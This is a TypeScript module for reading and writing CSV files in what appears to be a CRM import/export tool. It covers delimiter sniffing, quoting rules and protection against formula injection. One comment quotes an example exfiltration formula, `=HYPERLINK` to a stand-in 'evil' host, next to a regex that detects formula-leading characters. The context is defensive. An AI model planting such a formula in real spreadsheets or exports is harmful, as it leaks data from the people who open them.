// CSV (RFC 4180) in and out, written here rather than pulled in as a dependency: imports are files
// from other CRMs and spreadsheets, so the reader is lenient where real exports deviate, and the
// writer is strict and safe to open in a spreadsheet.
//
// Reading, where the RFC is silent or real files break it:
// - A UTF-8 byte-order mark is dropped; LF, CRLF and a lone CR all end a record.
// - Blank lines (no characters at all) are not records; a line of delimiters is a record of empty cells.
// - A quote inside an unquoted cell is kept literally (`5" screen`); text after a closing quote is
//   appended to the cell (`"ab"c` → `abc`), as spreadsheets do.
// - A quoted cell that never closes is an error naming the line it opened on, because everything after
//   it would otherwise be swallowed into one cell.
// - Newlines inside quoted cells are kept as written.
// - The delimiter, unless given, is sniffed on the header line: the first record that has one of
//   `,` `;` TAB `|` outside quotes (so preamble lines such as LinkedIn's "Notes:" are passed over).
//   The candidate that occurs most often there wins; ties go to the order above.
// - Records after the header whose cell count differs from the header's are returned as they are and
//   listed in `ragged`, so the caller can show them instead of losing data silently.
//
// Cost is linear: one pass over character codes, unquoted cells are single slices, quoted cells join
// at most one slice per escaped quote.

export type Delimiter = ',' | ';' | '\t' | '|';
export const DELIMITERS: readonly Delimiter[] = [',', ';', '\t', '|'];

export interface CsvRecord {
  /** Physical line (1-based) the record starts on, counting every LF, CRLF and CR. */
  line: number;
  cells: string[];
}

export interface RaggedRecord {
  /** Index into `records`. */
  index: number;
  line: number;
  cells: number;
  expected: number;
}

export interface CsvTable {
  delimiter: Delimiter;
  records: CsvRecord[];
  /** Index of the header record in `records`: the line the delimiter was sniffed on (0 when none had one). */
  headerIndex: number;
  ragged: RaggedRecord[];
}

export interface CsvError {
  code: 'unterminated-quote';
  line: number;
  message: string;
}

export type CsvParseResult = ({ ok: true } & CsvTable) | { ok: false; error: CsvError };

export interface ParseOptions {
  /** Skip sniffing. The header is still the first record containing it, or the first record. */
  delimiter?: Delimiter;
}

const QUOTE = 34;
const LF = 10;
const CR = 13;
/** Sniffing looks this far at most; a header is never further down than a short preamble. */
const SNIFF_RECORDS = 50;
const SNIFF_CHARS = 1 << 20;

interface Sniff {
  delimiter: Delimiter | null;
  /** Physical line of the record the delimiter was found on. */
  line: number;
}

const DELIMITER_CODES = DELIMITERS.map((d) => d.charCodeAt(0));

/** Index of the largest non-zero count, the earliest on ties; -1 when all are zero. */
function mostFrequent(counts: readonly number[]): number {
  let best = -1;
  for (let k = 0; k < counts.length; k++) if (counts[k]! > 0 && (best < 0 || counts[k]! > counts[best]!)) best = k;
  return best;
}

/** Finds the first record with a candidate delimiter outside quotes and picks the most frequent one. */
function sniff(text: string, only?: Delimiter): Sniff {
  const candidates = only ? [only] : DELIMITERS;
  const codes = candidates.map((d) => d.charCodeAt(0));
  const counts = new Array<number>(codes.length).fill(0);
  const end = Math.min(text.length, SNIFF_CHARS);
  let inQuote = false;
  let atCellStart = true;
  let line = 1;
  let recordLine = 1;
  let records = 0;
  for (let i = 0; i < end && records < SNIFF_RECORDS; i++) {
    const c = text.charCodeAt(i);
    if (inQuote) {
      if (c === QUOTE) {
        if (text.charCodeAt(i + 1) === QUOTE) i++;
        else {
          inQuote = false;
          atCellStart = false;
        }
      } else if (c === LF || c === CR) {
        if (c === CR && text.charCodeAt(i + 1) === LF) i++;
        line++;
      }
      continue;
    }
    // Same rule as the parser: a quote opens a quoted cell only at the start of a cell.
    if (c === QUOTE && atCellStart) {
      inQuote = true;
      continue;
    }
    if (c === LF || c === CR) {
      if (c === CR && text.charCodeAt(i + 1) === LF) i++;
      line++;
      const best = mostFrequent(counts);
      if (best >= 0) return { delimiter: candidates[best]!, line: recordLine };
      counts.fill(0);
      recordLine = line;
      records++;
      atCellStart = true;
      continue;
    }
    const k = codes.indexOf(c);
    if (k >= 0) counts[k]!++;
    // Any candidate may turn out to be the delimiter, so each one starts a cell for quoting purposes.
    atCellStart = DELIMITER_CODES.includes(c);
  }
  const best = mostFrequent(counts);
  return best >= 0 ? { delimiter: candidates[best]!, line: recordLine } : { delimiter: null, line: 1 };
}

export function parseCsv(input: string, options: ParseOptions = {}): CsvParseResult {
  const text = input.charCodeAt(0) === 0xfeff ? input.slice(1) : input;
  const sniffed = sniff(text, options.delimiter);
  const delimiter: Delimiter = options.delimiter ?? sniffed.delimiter ?? ',';
  const D = delimiter.charCodeAt(0);
  const n = text.length;

  const records: CsvRecord[] = [];
  let cells: string[] = [];
  let line = 1;
  let recordLine = 1;
  let i = 0;
  // True once the current record has any character or delimiter, so blank lines produce no record.
  let started = false;

  const endRecord = () => {
    if (started) records.push({ line: recordLine, cells });
    cells = [];
    started = false;
  };

  while (i < n) {
    const c = text.charCodeAt(i);
    if (c === LF || c === CR) {
      endRecord();
      i += c === CR && text.charCodeAt(i + 1) === LF ? 2 : 1;
      line++;
      recordLine = line;
      continue;
    }
    started = true;
    if (c === QUOTE) {
      const openLine = line;
      const parts: string[] = [];
      let from = i + 1;
      let j = from;
      let closed = false;
      while (j < n) {
        const q = text.charCodeAt(j);
        if (q === QUOTE) {
          parts.push(text.slice(from, j));
          if (text.charCodeAt(j + 1) === QUOTE) {
            parts.push('"');
            j += 2;
            from = j;
            continue;
          }
          closed = true;
          j++;
          break;
        }
        if (q === LF) line++;
        else if (q === CR) {
          if (text.charCodeAt(j + 1) === LF) j++;
          line++;
        }
        j++;
      }
      if (!closed) {
        return {
          ok: false,
          error: {
            code: 'unterminated-quote',
            line: openLine,
            message: `A quoted cell opened on line ${openLine} is never closed.`,
          },
        };
      }
      // Lenient tail: characters between the closing quote and the next delimiter or line end.
      let k = j;
      while (k < n) {
        const t = text.charCodeAt(k);
        if (t === D || t === LF || t === CR) break;
        k++;
      }
      if (k > j) parts.push(text.slice(j, k));
      cells.push(parts.length === 1 ? parts[0]! : parts.join(''));
      i = k;
    } else {
      let k = i;
      while (k < n) {
        const t = text.charCodeAt(k);
        if (t === D || t === LF || t === CR) break;
        k++;
      }
      cells.push(text.slice(i, k));
      i = k;
    }
    // Here text[i] is a delimiter, a line break, or the end.
    if (i < n && text.charCodeAt(i) === D) {
      i++;
      // A delimiter right before a line break or the end leaves one more, empty cell.
      const t = i < n ? text.charCodeAt(i) : -1;
      if (t === -1 || t === LF || t === CR) cells.push('');
    }
  }
  endRecord();

  let headerIndex = 0;
  if (sniffed.delimiter !== null) {
    const at = records.findIndex((r) => r.line === sniffed.line);
    if (at >= 0) headerIndex = at;
  }
  const ragged: RaggedRecord[] = [];
  const expected = records[headerIndex]?.cells.length ?? 0;
  for (let r = headerIndex + 1; r < records.length; r++) {
    const rec = records[r]!;
    if (rec.cells.length !== expected) ragged.push({ index: r, line: rec.line, cells: rec.cells.length, expected });
  }
  return { ok: true, delimiter, records, headerIndex, ragged };
}

// ---------------------------------------------------------------------------------------------
// Writing

export type CsvCell = string | number | boolean | null | undefined;

export interface SerializeOptions {
  delimiter?: Delimiter;
  /** Prefix a UTF-8 byte-order mark: Excel reads a CSV without one in the machine's legacy code page. */
  bom?: boolean;
}

/**
 * Characters that make a spreadsheet treat a cell as a formula (OWASP "CSV injection"): `=`, `+`, `-`,
 * `@`, and TAB / CR, which some spreadsheets skip before looking for those. A prospect's name or a
 * touch note comes from a web page or another rep, so `=HYPERLINK("http://evil/?"&A1)` typed into a
 * LinkedIn headline would run on the manager's machine when the export is opened.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A text cell safe to open in a spreadsheet: a leading `'` makes Excel, LibreOffice and Google Sheets
 * show the rest as text. Only strings pass through here: numbers the exporter writes itself (deal
 * value, score) are typed as numbers, cannot carry a formula, and stay readable and summable (`-5`).
 */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** Undo `neutralizeFormula` when reading a file back, so an export → import round trip is exact. */
export function unneutralizeFormula(text: string): string {
  return text.length > 1 && text.charCodeAt(0) === 39 && FORMULA_START.test(text.slice(1)) ? text.slice(1) : text;
}

function cellText(cell: CsvCell): string {
  if (cell === null || cell === undefined) return '';
  if (typeof cell === 'number') return Number.isFinite(cell) ? String(cell) : '';
  if (typeof cell === 'boolean') return cell ? 'true' : 'false';
  return neutralizeFormula(cell);
}

function quoteIfNeeded(text: string, delimiter: string): string {
  if (text.includes('"')) return `"${text.replace(/"/g, '""')}"`;
  if (text.includes(delimiter) || text.includes('\n') || text.includes('\r')) return `"${text}"`;
  return text;
}

/** One CSV document: CRLF after every record (the last too), cells quoted only when they must be. */
export function toCsv(rows: readonly (readonly CsvCell[])[], options: SerializeOptions = {}): string {
  const d = options.delimiter ?? ',';
  const out: string[] = [];
  for (const row of rows) {
    const line = row.map((c) => quoteIfNeeded(cellText(c), d)).join(d);
    // An empty line is no record when read back; `""` keeps a row of one empty cell.
    out.push(line === '' ? '""' : line);
  }
  return (options.bom ? '\ufeff' : '') + (out.length ? out.join('\r\n') + '\r\n' : '');
}
